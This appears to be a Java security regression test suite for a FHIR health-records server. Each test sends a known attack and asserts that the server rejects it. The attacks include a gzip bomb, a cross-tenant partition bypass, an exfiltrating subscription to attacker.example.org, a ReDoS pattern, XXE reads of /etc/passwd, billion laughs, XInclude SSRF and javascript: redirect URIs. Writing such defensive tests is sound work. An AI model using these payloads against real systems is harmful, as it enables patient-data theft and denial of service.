package org.tenderpoint.attack;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.management.ThreadMXBean;
import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.zip.GZIPOutputStream;
import javax.sql.DataSource;
import org.tenderpoint.testing.Checksum;
import org.tenderpoint.testing.Client;
import org.tenderpoint.testing.Database;
import org.tenderpoint.testing.EachDatabase;
import org.tenderpoint.testing.Person;
import org.tenderpoint.testing.Server;

/** Flaws that are known of HAPI, the FHIR core, Spring and their like, each tried here. */
class KnownFlawsStoryTest {

    private static final int BOMB = 50 * 1024 * 1024;
    private static final long MOST_ALLOCATED = 8L * 1024 * 1024;

    /** A gzip body that is inflated without a limit before anything else runs. */
    @EachDatabase
    void cve2026x113873AGzipBombIsNotInflated(Database database) throws IOException {
        var server = Server.on(database);
        var packed = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(packed)) {
            gzip.write(new byte[BOMB]);
        }
        assertThat(packed.size()).isLessThan(60_000);
        var bomb = Map.of("Content-Encoding", "gzip");
        for (var client : List.of(server.anonymous(), server.as("demo-clinic"))) {
            client.prepare();
            client.sendBytes("POST", "/Patient", packed.toByteArray(), bomb);
            var before = allocated();
            var begun = Instant.now();

            var answer = client.sendBytes("POST", "/Patient", packed.toByteArray(), bomb);

            assertThat(answer.status()).isIn(401, 415);
            assertThat(Duration.between(begun, Instant.now())).isLessThan(Duration.ofSeconds(1));
            assertThat(allocated() - before).as("bytes allocated").isLessThan(MOST_ALLOCATED);
        }
    }

    /** Bytes that the threads of the server have allocated. */
    private static long allocated() {
        var threads = (ThreadMXBean) ManagementFactory.getThreadMXBean();
        var ids = Arrays.stream(threads.getThreadInfo(threads.getAllThreadIds()))
                .filter(Objects::nonNull)
                .filter(thread -> thread.getThreadName().startsWith("http-nio"))
                .mapToLong(java.lang.management.ThreadInfo::getThreadId)
                .toArray();
        return Arrays.stream(threads.getThreadAllocatedBytes(ids)).sum();
    }

    /** An extension or a header by which an entry is written into another tenant's partition. */
    @EachDatabase
    void cve2026x113874NobodyWritesIntoAnothersPart(Database database) {
        var server = Server.on(database);
        var other = server.as("demo-other-clinic");
        var name = "Partition" + UUID.randomUUID();
        var bundle =
                """
                {"resourceType":"Bundle","type":"transaction","entry":[{
                 "extension":[{"url":"http://hapifhir.io/fhir/ns/StructureDefinition/request-partition-ids",
                  "valueString":"_ALL"}],
                 "resource":{"resourceType":"Patient","name":[{"family":"%s"}]},
                 "request":{"method":"POST","url":"Patient","extension":[{
                  "url":"http://hapifhir.io/fhir/ns/StructureDefinition/request-partition-ids",
                  "valueString":"demo-clinic"}]}}]}"""
                        .formatted(name);

        other.send("POST", "", bundle, Map.of("X-Request-Partition-IDs", "_ALL"))
                .expect(200);

        assertThat(total(other, name)).isEqualTo(1);
        for (var stranger : List.of("demo-clinic", "demo-ehr", "demo-insurer")) {
            assertThat(total(server.as(stranger), name)).as(stranger).isZero();
        }
        var everything = Map.of("X-Request-Partition-IDs", "_ALL");
        assertThat(server.as("demo-clinic")
                        .send("GET", "/Patient?family=" + name, null, everything)
                        .expect(200)
                        .json()
                        .path("total")
                        .asInt())
                .isZero();
    }

    private static int total(Client client, String family) {
        return client.get("/Patient?family=" + family + "&_summary=count")
                .expect(200)
                .json()
                .path("total")
                .asInt();
    }

    /** Subscriptions that read more than their creator may: a search of the record is none that one can subscribe to. */
    @EachDatabase
    void cve2026x113875NobodySubscribesToASearchOfTheRecord(Database database) {
        var server = Server.on(database);
        var subscription =
                """
                {"resourceType":"Subscription","status":"requested","reason":"x","criteria":"Observation?",
                 "channel":{"type":"rest-hook","endpoint":"https://attacker.example.org/"}}""";
        for (var client : List.of("demo-clinic", "demo-ehr", "demo-insurer", "demo-admin")) {
            server.as(client).post("/Subscription", subscription).expect(403);
        }
        server.as("demo-ehr")
                .post(
                        "/Subscription",
                        subscription.replace(
                                "Observation?", "http://hl7.org/fhir/us/davinci-hrex/SubscriptionTopic/Task"))
                .expect(422);
    }

    /** A conditional create that answers with the resource it has found, whether its sender may read it or not. */
    @EachDatabase
    void cve2026x113876AConditionalCreateShowsNothingThatWasThere(Database database) {
        var server = Server.on(database);
        var number = UUID.randomUUID().toString();
        var patient =
                """
                {"resourceType":"Patient","identifier":[{"system":"urn:attack:mrn","value":"%s"}],
                 "name":[{"family":"%s"}]}""";
        var condition =
                Map.of("If-None-Exist", "identifier=urn:attack:mrn|" + number, "Prefer", "return=representation");
        var first = server.as("demo-ehr")
                .send("POST", "/Patient", patient.formatted(number, "CANARY"), condition)
                .expect(201);
        var id = first.reference().substring("Patient/".length());

        for (var stranger : List.of("demo-other-ehr", "demo-other-clinic", "demo-insurer", "demo-admin")) {
            var answer = server.as(stranger).send("POST", "/Patient", patient.formatted(number, "Other"), condition);
            assertThat(answer.text() + answer.headers())
                    .as(stranger)
                    .doesNotContain(id)
                    .doesNotContain("CANARY");
        }
        var again = server.as("demo-ehr")
                .send("POST", "/Patient", patient.formatted(number, "Other"), condition)
                .expect(200);
        assertThat(again.reference()).isEqualTo(first.reference());
        assertThat(again.text()).doesNotContain("CANARY");
    }

    /** FHIRPath from outside, whose {@code matches()} runs for minutes on a bad pattern. */
    @EachDatabase
    void a7NobodySendsFhirPath(Database database) {
        var server = Server.on(database);
        var clinic = server.as("demo-clinic");
        var slow = "Patient.name.family.matches('(a%2B)%2B$')";
        var begun = Instant.now();

        clinic.get("/Patient?_fhirpath=" + slow).expect(400);
        clinic.post("/SearchParameter", "{\"resourceType\":\"SearchParameter\"}")
                .expect(404);
        clinic.post("/StructureDefinition", "{\"resourceType\":\"StructureDefinition\"}")
                .expect(404);
        clinic.send(
                        "PATCH",
                        "/Patient/" + UUID.randomUUID(),
                        "{\"resourceType\":\"Parameters\"}",
                        Map.of("Content-Type", "application/fhir+json"))
                .expect(415);
        clinic.get("/Patient?family=" + "a".repeat(3_000) + "!").expect(200);

        assertThat(Duration.between(begun, Instant.now())).isLessThan(Duration.ofSeconds(5));
    }

    /** A health card whose content is inflated or searched for ever. */
    @EachDatabase
    void a8AHealthCardIsNoBody(Database database) {
        var clinic = Server.on(database).as("demo-clinic");
        var card = "{\"verifiableCredential\":[\"eyJ6aXAiOiJERUYiLCJhbGciOiJFUzI1NiJ9.AAAA.AAAA\"]}";

        clinic.send("POST", "/Patient", card, Map.of("Content-Type", "application/smart-health-card"))
                .expect(415);
        clinic.post("/Patient", card).expect(400);
        clinic.post("/Bundle", "shc:/5676290952432060346029243740446031222959532654603460292540772804336028702864")
                .expect(400);
    }

    /** XML that reads files, asks other servers or grows. */
    @EachDatabase
    void a10XmlReadsAndGrowsNothing(Database database) throws IOException {
        var server = Server.on(database);
        var asked = new AtomicInteger();
        var bait = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        bait.createContext("/", exchange -> {
            asked.incrementAndGet();
            exchange.sendResponseHeaders(404, -1);
            exchange.close();
        });
        bait.start();
        var address = "http://localhost:" + bait.getAddress().getPort() + "/";
        var patient = "<Patient xmlns=\"http://hl7.org/fhir\"><name><family value=\"%s\"/></name>%s</Patient>";
        var cases = new LinkedHashMap<String, String>();
        cases.put(
                "file entity",
                "<!DOCTYPE Patient [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + patient.formatted("&x;", ""));
        cases.put(
                "http entity",
                "<!DOCTYPE Patient [<!ENTITY x SYSTEM \"" + address + "\">]>" + patient.formatted("&x;", ""));
        cases.put("external DTD", "<!DOCTYPE Patient SYSTEM \"" + address + "x.dtd\">" + patient.formatted("x", ""));
        cases.put(
                "parameter entity",
                "<!DOCTYPE Patient [<!ENTITY % x SYSTEM \"" + address + "x.dtd\"> %x;]>" + patient.formatted("x", ""));
        cases.put(
                "billion laughs",
                "<!DOCTYPE Patient [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
                        + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
                        + "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">]>" + patient.formatted("&e;", ""));
        cases.put(
                "XInclude",
                patient.formatted(
                        "x",
                        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + address
                                + "\" parse=\"text\"/>"));
        cases.put(
                "style sheet",
                "<?xml-stylesheet href=\"" + address + "\"?>" + "<!DOCTYPE x>" + patient.formatted("x", ""));
        var before = Checksum.of(server.bean(DataSource.class));

        try {
            cases.forEach((what, body) -> {
                var answer = server.as("demo-clinic")
                        .send("POST", "/Patient", body, Map.of("Content-Type", "application/fhir+xml"));
                assertThat(answer.status()).as(what + answer.text()).isEqualTo(400);
                assertThat(answer.text()).as(what).doesNotContain("root:");
            });
        } finally {
            bait.stop(0);
        }

        assertThat(asked).hasValue(0);
        assertThat(Checksum.of(server.bean(DataSource.class))).isEqualTo(before);
    }

    /** Registration by anybody, with an address that runs a script. */
    @EachDatabase
    void a12NobodyRegistersThemselvesNorAScript(Database database) {
        var server = Server.on(database);
        for (var path : List.of("/connect/register", "/oauth2/register", "/register", "/fhir/register")) {
            var answer = Person.json(
                    "POST", server.url() + path, server.as("demo-clinic").token(), "{}");
            assertThat(answer.status()).as(path).isIn(400, 404, 405);
            assertThat(server.anonymous().getOutside(path).status()).as(path).isEqualTo(401);
        }
        assertThat(server.anonymous()
                                .getOutside("/.well-known/openid-configuration")
                                .text()
                        + server.anonymous()
                                .getOutside("/fhir/.well-known/smart-configuration")
                                .text())
                .doesNotContain("registration_endpoint");
        for (var address : List.of(
                "javascript:alert(1)",
                "JavaScript:alert(1)",
                "data:text/html,x",
                "vbscript:x",
                "file:///etc/passwd",
                "http://app.example.org/back",
                "https://user@app.example.org/back",
                "https://app.example.org/back#x",
                "//app.example.org/back",
                "blob:https://app.example.org/x",
                "about:blank",
                "https:///back")) {
            var registration = "{\"client_id\":\"attack-" + UUID.randomUUID()
                    + "\",\"token_endpoint_auth_method\":\"none\",\"scope\":\"openid\",\"redirect_uris\":[\"" + address
                    + "\"]}";
            var answer = Person.json(
                    "POST",
                    server.url() + "/admin/clients",
                    server.as("demo-admin").token(),
                    registration);
            assertThat(answer.status()).as(address).isEqualTo(400);
        }
    }
}
